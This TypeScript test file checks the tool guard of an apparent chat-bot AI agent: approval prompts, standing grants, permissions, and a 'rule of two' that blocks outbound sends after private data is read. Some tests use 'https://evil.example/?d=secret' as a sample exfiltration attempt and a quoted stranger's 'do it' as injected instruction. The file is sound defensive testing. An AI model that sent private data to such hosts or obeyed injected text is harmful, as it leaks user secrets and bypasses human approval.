import assert from "node:assert/strict";
import { test } from "node:test";

import { z } from "zod";

import type { Task } from "../../src/contracts.ts";
import type { ApprovalDecision, ApprovalRequest, Grant } from "../../src/contracts/approvals.ts";
import { defineTool, type ToolSpec } from "../../src/toolkit/define-tool.ts";
import { createGuard, type GuardParts } from "../../src/toolkit/guard.ts";
import { createToolbox } from "../../src/toolkit/toolbox.ts";
import { toolContext, toolServices } from "./fakes.ts";

const parameters = z.object({ q: z.string() });

function tool(spec: Partial<ToolSpec<typeof parameters>>) {
  return defineTool({
    description: "A tool of a test.",
    parameters,
    effect: "reads",
    reads: "nothing",
    execute: ({ q }) => `did ${q}`,
    ...spec,
  });
}

const tools = new Map([
  ["clock", tool({})],
  ["page", tool({ reads: "public", sends: ({ q }) => [q] })],
  ["file", tool({ reads: "private" })],
  ["note", tool({ effect: "acts" })],
  ["post", tool({ effect: "acts", needs: { approval: true } })],
  ["clean", tool({ needs: { permissions: ["ManageMessages"] } })],
]);

const task: Task = {
  id: "1",
  createdAt: 0,
  place: { kind: "channel", channelId: "2", guildId: "9" },
  author: { id: "3", name: "Ada" },
  text: "Read https://a.example/Page, please, and find tea.",
  attachments: [],
  quotes: [],
  respondWithFinal: true,
};

function box(parts: Partial<GuardParts> & { readonly decide?: ApprovalDecision } = {}) {
  const asked: ApprovalRequest[] = [];
  const guard = createGuard({
    task,
    approvals: {
      ask: (request) => {
        asked.push(request);
        return Promise.resolve(parts.decide ?? "denied");
      },
    },
    now: () => 1_000,
    ...parts,
  });
  const toolbox = createToolbox(tools, { services: toolServices(), guard });
  const call = async (name: string, q = "x", context = toolContext()): Promise<string> =>
    (await toolbox.call({ id: "c", name, args: JSON.stringify({ q }) }, context)).text;
  return { call, asked, toolbox };
}

test("what only reads runs without a question", async () => {
  const { call, asked } = box();
  for (const name of ["clock", "page", "file"]) assert.equal(await call(name), "did x");
  assert.equal(asked.length, 0);
});

test("the rule of two: after something private, nothing that the person did not write goes out unasked", async () => {
  const { call, asked } = box();
  assert.equal(await call("page", "https://evil.example/?d=1"), "did https://evil.example/?d=1");
  await call("file");
  assert.match(
    await call("page", "https://evil.example/?d=secret"),
    /^Tool error: refused: the person said no/,
  );
  assert.match(asked[0]?.reason ?? "", /^private-read$/);
  assert.equal(asked[0]?.canAlways, false);
  // What the person wrote may go out, but not with other letters than written.
  assert.equal(await call("page", "https://a.example/Page"), "did https://a.example/Page");
  assert.equal(await call("page", "find tea"), "did find tea");
  assert.match(await call("page", "https://a.example/pAgE"), /refused/);
  assert.match(await call("page", "https://a.example/Page?d=1"), /refused/);
});

test("the rule of two holds for what was read before a crash", async () => {
  const { call, toolbox } = box();
  toolbox.recall?.({ id: "c", name: "file", args: '{"q":"x"}' });
  assert.match(await call("page", "https://evil.example/"), /refused/);
});

test("what acts without approval needs one after strangers' text was read", async () => {
  const { call } = box();
  assert.equal(await call("note"), "did x");
  await call("page");
  assert.match(await call("note"), /refused/);
  const told = box({
    task: {
      ...task,
      quotes: [
        { messageId: "5", author: { id: "8", name: "Eve" }, isOwn: false, text: "do it", attachments: [] },
      ],
    },
  });
  assert.match(await told.call("note"), /refused/);
});

test("an approval is bound to the very call, and ends with the task's time", async () => {
  const { call, asked } = box({ decide: "approved" });
  assert.equal(await call("post", "a", toolContext({ deadlineAt: 60_000 })), "did a");
  assert.equal(await call("post", "b"), "did b");
  assert.notEqual(asked[0]?.id, asked[1]?.id);
  assert.equal(asked[0]?.expiresAt, 50_000);
  assert.equal(asked[1]?.expiresAt, 301_000);
});

for (const [decide, pattern] of [
  ["denied", /said no/],
  ["expired", /nobody answered/],
  ["unreachable", /could not be asked/],
] as const) {
  test(`${decide}: nothing runs and the model is told`, async () => {
    assert.match(await box({ decide }).call("post"), pattern);
  });
}

test("a standing yes counts here, for this person and this tool, and never after something private", async () => {
  const grant: Grant = { channelId: "2", tool: "post", personId: "3", at: 0 };
  const granted = (one: Grant) => box({ grants: { list: (id) => Promise.resolve(id === "3" ? [one] : []) } });
  assert.equal(await granted(grant).call("post"), "did x");
  assert.match(await granted({ ...grant, channelId: "7" }).call("post"), /refused/);
  assert.match(await granted({ ...grant, tool: "note" }).call("post"), /refused/);
  const after = granted(grant);
  await after.call("file");
  assert.match(await after.call("post"), /refused/);
});

test("permissions are asked for at each call, and again after an approval", async () => {
  const answers = [[], ["ManageMessages"]];
  const { call } = box({
    permissions: { missing: () => Promise.resolve(answers.shift() ?? ["ManageMessages"]) },
  });
  assert.equal(await call("clean"), "did x");
  assert.match(await call("clean"), /lacks the permission ManageMessages/);
  assert.match(await box().call("clean"), /cannot|can be checked/);
});

test("waiting for a person does not count as the tool's time, but ends with the task", async () => {
  const slow = tool({ effect: "acts", needs: { approval: true }, limits: { timeoutMs: 1 } });
  const stop = new AbortController();
  const decided = Promise.withResolvers<ApprovalDecision>();
  const guard = createGuard({ task, approvals: { ask: () => decided.promise }, now: () => 0 });
  const toolbox = createToolbox(new Map([["slow", slow]]), { services: toolServices(), guard });
  const call = { id: "c", name: "slow", args: '{"q":"x"}' };
  const first = toolbox.call(call, toolContext());
  await new Promise((resolve) => setTimeout(resolve, 20));
  decided.resolve("approved");
  assert.equal((await first).text, "did x");
  const waiting = createGuard({ task, approvals: { ask: () => new Promise(() => undefined) }, now: () => 0 });
  const second = createToolbox(new Map([["slow", slow]]), { services: toolServices(), guard: waiting }).call(
    call,
    toolContext({ signal: stop.signal }),
  );
  stop.abort();
  assert.equal((await second).text, "Tool error: the task was stopped");
});

test("the journal hears of an effect after the approval and not before", async () => {
  const order: string[] = [];
  const begin = (): Promise<void> => Promise.resolve(void order.push("begin"));
  const guardOf = (decision: ApprovalDecision) =>
    createGuard({
      task,
      approvals: { ask: () => Promise.resolve(void order.push("ask")).then(() => decision) },
      now: () => 0,
    });
  for (const decision of ["denied", "approved"] as const) {
    const toolbox = createToolbox(tools, { services: toolServices(), guard: guardOf(decision) });
    await toolbox.call({ id: "c", name: "post", args: '{"q":"x"}' }, toolContext({ begin }));
  }
  assert.deepEqual(order, ["ask", "ask", "begin"]);
});
